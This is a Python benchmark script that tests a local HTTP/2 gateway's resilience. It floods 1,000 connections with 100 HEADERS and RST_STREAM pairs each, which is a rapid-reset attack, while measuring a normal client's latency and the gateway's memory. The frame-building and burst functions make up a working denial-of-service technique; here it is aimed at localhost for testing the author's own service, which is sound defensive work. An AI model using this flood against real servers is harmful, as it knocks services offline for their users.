#!/usr/bin/env python3
"""A hundred thousand HTTP/2 streams, opened and reset at once, while well-behaved callers go on.

Each of 1 000 connections, 50 at a time, sends 100 pairs of HEADERS and RST_STREAM in one burst and reads until it is closed.
Tells the gateway's memory before and after, and what the others noticed. The gateway must run already.

  bench/resets.py --port 8080 --pid $(pgrep -x points-gateway) [--path /members/1003/points-history]
"""
import argparse, socket, struct, threading, time, urllib.request


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def burst(path, streams):
    text = path.encode()
    # :method GET and :scheme http of the static table, :path and :authority as they are.
    block = b"\x82\x86\x44" + bytes([len(text)]) + text + b"\x41\x01x"
    pairs = (frame(1, 0x5, 1 + 2 * n, block) + frame(3, 0, 1 + 2 * n, struct.pack(">I", 8)) for n in range(streams))
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0) + b"".join(pairs)


def attack(port, bytes_, closed):
    with socket.create_connection(("127.0.0.1", port)) as way:
        way.settimeout(10)
        try:
            way.sendall(bytes_)
            while way.recv(65536):
                pass
            closed.append(True)
        except TimeoutError:
            pass
        except OSError:
            closed.append(True)


def resident_mib(pid):
    with open(f"/proc/{pid}/status") as status:
        return int(dict(line.split(":", 1) for line in status)["VmRSS"].split()[0]) / 1024


def main():
    a = argparse.ArgumentParser()
    a.add_argument("--port", type=int, required=True)
    a.add_argument("--pid", type=int, required=True)
    a.add_argument("--path", default="/members/1003/points-history")
    a = a.parse_args()
    asker, taken, failed, closed, stop = urllib.request.build_opener(urllib.request.ProxyHandler({})), [], [], [], threading.Event()

    def good():
        while not stop.is_set():
            begun = time.monotonic()
            try:
                asker.open(f"http://127.0.0.1:{a.port}{a.path}", timeout=5).read()
                taken.append(time.monotonic() - begun)
            except OSError as error:
                failed.append(error)
            time.sleep(0.005)

    def told(what):
        p99 = sorted(taken)[int(len(taken) * 0.99)] * 1000 if taken else 0
        print(f"{what}: {len(taken)} good answers, {len(failed)} failed, p99 {p99:.1f} ms; resident {resident_mib(a.pid):.1f} MiB")
        taken.clear()

    caller = threading.Thread(target=good)
    caller.start()
    time.sleep(3)
    told("quiet")
    bytes_, begun = burst(a.path, 100), time.monotonic()
    attackers = [threading.Thread(target=lambda: [attack(a.port, bytes_, closed) for _ in range(20)]) for _ in range(50)]
    for attacker in attackers:
        attacker.start()
    for attacker in attackers:
        attacker.join()
    told(f"100 000 resets in {time.monotonic() - begun:.1f} s, {len(closed)} of 1000 connections closed")
    time.sleep(3)
    told("after")
    stop.set()
    caller.join()


if __name__ == "__main__":
    main()
